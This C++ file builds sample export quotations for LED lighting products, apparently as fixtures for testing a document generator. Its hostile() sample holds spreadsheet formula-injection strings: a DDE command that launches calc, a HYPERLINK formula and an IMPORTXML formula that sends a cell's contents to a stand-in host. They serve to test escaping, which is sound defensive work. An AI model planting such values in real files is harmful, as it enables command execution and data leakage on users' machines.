#include "samples.h"

namespace bb::samples {
namespace {

Decimal decimal(std::string_view text) { return Decimal::parse(text).value_or(Decimal(0)); }
Date date(std::string_view text) { return Date::parse(text).value_or(Date{}); }

struct Ware {
    const char *model, *zh, *en, *description, *hs, *picture, *price;
    int quantity;
    const char *pieces, *length, *width, *height, *net, *gross;
};

constexpr Ware wares[] = {
    {"LP-6060-36W", "LED 面板灯", "LED panel light 600×600",
     "36 W, 4000 K, UGR<19, CRI>80, 5 years' warranty", "9405.11", "panel.jpg", "7.66", 2000, "8",
     "62", "31", "64", "14.4", "16.2"},
    {"LP-3012-18W", "LED 面板灯", "LED panel light 300×1200", "18 W, 3000–6500 K by switch",
     "9405.11", "panel.jpg", "6.20", 800, "8", "122", "32", "34", "12.8", "14.5"},
    {"DR-36-D", "可调光驱动", "Dimmable driver 36 W", "DALI-2 and push dimming, flicker-free",
     "8504.40", "driver.jpg", "2.775", 800, "50", "42", "30", "28", "9.5", "10.3"},
    {"BL-A60-9W", "LED 球泡", "LED bulb A60", "9 W, E27, 806 lm", "8539.52", "bulb.png", "0.585",
     12000, "100", "64", "33", "26", "4.1", "5"},
};

QuotedLine line_of(const Ware& ware, bool pictures) {
    QuotedLine line;
    line.model = ware.model;
    line.name_zh = ware.zh;
    line.name_en = ware.en;
    line.description = ware.description;
    line.unit = "pcs";
    if (pictures) line.picture = ware.picture;
    line.moq = Decimal(100);
    line.quantity = Decimal(ware.quantity);
    line.price = decimal(ware.price);
    line.carton = {decimal(ware.pieces), decimal(ware.length), decimal(ware.width),
                   decimal(ware.height), decimal(ware.net),    decimal(ware.gross)};
    return line;
}

QuoteDocument base_quote() {
    QuoteDocument quote;
    quote.number = "Q2026-0118";
    quote.revision = 2;
    quote.draft = false;
    quote.date = date("2026-11-21");
    quote.valid_until = date("2026-12-21");
    quote.seller.name = "Ningbo Brightway Lighting Co., Ltd.";
    quote.seller.address = "No. 88 Cangsong Road, Haishu District, 315012 Ningbo, Zhejiang, China";
    quote.seller.contact = "Ms Chen Jing";
    quote.seller.phone = "+86 574 8700 1234";
    quote.seller.fax = "+86 574 8700 1235";
    quote.seller.email = "sales@brightway-lighting.example";
    quote.seller.website = "www.brightway-lighting.example";
    quote.buyer.name = "Andina Hogar S.A.";
    quote.buyer.address = "Av. Javier Prado Este 4200, Santiago de Surco, Lima, Perú";
    quote.buyer.contact = "Sra. María Núñez";
    quote.buyer.phone = "+51 1 437 0000";
    quote.buyer.email = "compras@andinahogar.example";
    quote.customer_code = "C0412";
    quote.buyer_reference = "RFQ 2026/447";
    quote.bank = "Bank of China, Ningbo Branch · SWIFT BKCHCNBJ92A\n"
                 "Beneficiary: Ningbo Brightway Lighting Co., Ltd. · Account 3580 0000 1234";
    quote.currency = "USD";
    quote.incoterm = "FOB";
    quote.place = "Ningbo";
    quote.port_of_loading = "Ningbo, China";
    quote.destination = "Callao, Peru";
    quote.payment = "T/T 30% deposit, 70% against copy of B/L";
    quote.lead_time = "30 days after deposit";
    quote.sample_price = decimal("35");
    quote.sample_days = 7;
    quote.sample_freight = "buyer";
    quote.sample_refund = "on_order";
    quote.remarks = "Colours and packing as in your inquiry. Other colour temperatures on request.";
    return quote;
}

Sample one_line() {
    QuoteDocument quote = base_quote();
    quote.lines = {line_of(wares[0], true)};
    return {"one_line", quote};
}

Sample ten_pictures() {
    QuoteDocument quote = base_quote();
    quote.logo = "logo.png";
    for (std::size_t i = 0; i < 10; ++i) quote.lines.push_back(line_of(wares[i % 4], true));
    quote.lines[1].hs_code = "";
    for (QuotedLine& line : quote.lines)
        if (line.model != "DR-36-D") line.hs_code = "9405.11.00";
    quote.discount = decimal("250");
    quote.freight = decimal("1180.50");
    quote.insurance = decimal("76.25");
    quote.incoterm = "CIF";
    quote.place = "Callao";
    return {"ten_pictures", quote};
}

Sample hundred_lines() {
    QuoteDocument quote = base_quote();
    for (std::size_t i = 0; i < 100; ++i) {
        quote.lines.push_back(line_of(wares[i % 4], i % 3 == 0));
        quote.lines.back().model += "-" + std::to_string(i + 1);
        // Prices and quantities that try the rounding of binary numbers.
        quote.lines.back().price =
            decimal("1.005") + decimal("0.013") * Decimal(static_cast<int>(i));
        quote.lines.back().quantity = Decimal(static_cast<int>(37 * i + 3));
    }
    return {"hundred_lines", quote};
}

void make_chinese(QuoteDocument& quote) {
    quote.seller.name = "宁波明途照明有限公司";
    quote.seller.address = "浙江省宁波市海曙区苍松路 88 号（邮编 315012）";
    quote.seller.contact = "陈静";
    quote.buyer.name = "云龙家居（香港）有限公司";
    quote.buyer.address = "香港九龙观塘道 388 号创纪之城";
    quote.buyer.contact = "李堃先生 · 이서연";
    quote.place = "宁波";
    quote.port_of_loading = "中国宁波";
    quote.destination = "香港";
    quote.payment = "T/T 30% 定金，70% 见提单副本";
    quote.lead_time = "收到定金后 30 天";
    quote.remarks = "颜色、包装按贵方询盘；其他色温可另报价。“交货期”以定金到账日起算……请知悉。";
    quote.bank = "中国银行宁波分行 · SWIFT BKCHCNBJ92A";
}

Sample chinese() {
    QuoteDocument quote = base_quote();
    make_chinese(quote);
    quote.language = DocumentLanguage::chinese;
    for (std::size_t i = 0; i < 3; ++i) quote.lines.push_back(line_of(wares[i], true));
    quote.lines[0].description = "36 W，4000 K，统一眩光值小于 19，显色指数大于 80，质保五年。";
    quote.lines[1].remarks = "含安装附件（弹簧扣、吊线）。";
    return {"chinese", quote};
}

/// With a character that is in no font.
Sample rare_character() {
    Sample sample = chinese();
    sample.quote.buyer.name = "ก龙家居（香港）有限公司";
    sample.name = "rare_character";
    return sample;
}

Sample bilingual_draft() {
    QuoteDocument quote = base_quote();
    quote.seller.second_name = "宁波明途照明有限公司";
    quote.number.clear();
    quote.draft = true;
    quote.logo = "logo.png";
    quote.accent = "#1d4ed8";
    quote.language = DocumentLanguage::both;
    for (std::size_t i = 0; i < 4; ++i) quote.lines.push_back(line_of(wares[i], true));
    quote.lines[3].unit = "cartons";
    return {"bilingual_draft", quote};
}

/// Text that a spreadsheet might evaluate, letters of many alphabets, and lengths nobody expects.
Sample hostile() {
    QuoteDocument quote = base_quote();
    quote.number = "=1+1";
    quote.seller.name = "=HYPERLINK(\"http://example.invalid\",\"x\")";
    quote.buyer.name = "Łódź Święty Sp. z o.o. · Đà Nẵng · Αθήνα · Москва · 東京 · Şişli";
    quote.buyer.address = "@SUM(1,1)\n+1-1\n-2+3";
    quote.buyer_reference = "+1+cmd|' /C calc'!A0";
    quote.payment = "&C&P {page} <b>&amp;</b> \"quoted\" 'single'";
    quote.remarks =
        "=cmd|' /C calc'!A0\n＝1＋1\n\t=2\n100 ₽, 100 ₹, 100 ₫, 100 ₺, 100 €";
    for (std::size_t i = 0; i < 3; ++i) quote.lines.push_back(line_of(wares[i], false));
    quote.lines[0].model = "-1+2";
    quote.lines[0].name_en = "=IMPORTXML(CONCAT(\"http://a.invalid\",A1),\"//a\")";
    quote.lines[1].model = "A-VERY-LONG-MODEL-NUMBER-WITHOUT-ANY-SPACE-0123456789-0123456789";
    quote.lines[1].hs_code = "00940511";
    quote.lines[1].description.clear();
    for (int i = 0; i < 120; ++i)
        quote.lines[1].description += "A sentence that is repeated until the row is too high. ";
    quote.lines[2].description = std::string(300, 'W');
    quote.lines[2].unit = "@unit";
    return {"hostile", quote};
}

Sample yen() {
    QuoteDocument quote = base_quote();
    quote.currency = "JPY";
    quote.currency_digits = 0;
    quote.price_digits = 0;
    for (std::size_t i = 0; i < 3; ++i) {
        quote.lines.push_back(line_of(wares[i], false));
        quote.lines.back().price = decimal("812.5") + Decimal(static_cast<int>(i));
        quote.lines.back().quantity = Decimal(static_cast<int>(1001 + 2 * i));
        quote.lines.back().model.clear();
        quote.lines.back().moq.reset();
        quote.lines.back().hs_code.clear();
    }
    quote.valid_until.reset();
    quote.buyer_reference.clear();
    return {"yen", quote};
}

Sample empty() {
    QuoteDocument quote = base_quote();
    quote.lines.clear();
    quote.remarks.clear();
    return {"empty", quote};
}

Sample large_numbers() {
    QuoteDocument quote = base_quote();
    quote.language = DocumentLanguage::both;
    quote.currency = "VND";
    quote.currency_digits = 0;
    quote.price_digits = 0;
    quote.place = "Ho Chi Minh City Cat Lai Port";
    for (std::size_t i = 0; i < 4; ++i) {
        quote.lines.push_back(line_of(wares[i], true));
        quote.lines.back().hs_code = "9405.11.00.90";
        quote.lines.back().price = decimal("1234567");
        quote.lines.back().quantity = decimal("1250000.5");
        quote.lines.back().moq = decimal("1000000");
    }
    return {"large_numbers", quote};
}

} // namespace

std::vector<Sample> all_samples() {
    return {one_line(),        ten_pictures(), hundred_lines(), chinese(), rare_character(),
            bilingual_draft(), hostile(),      yen(),           empty(),   large_numbers()};
}

} // namespace bb::samples
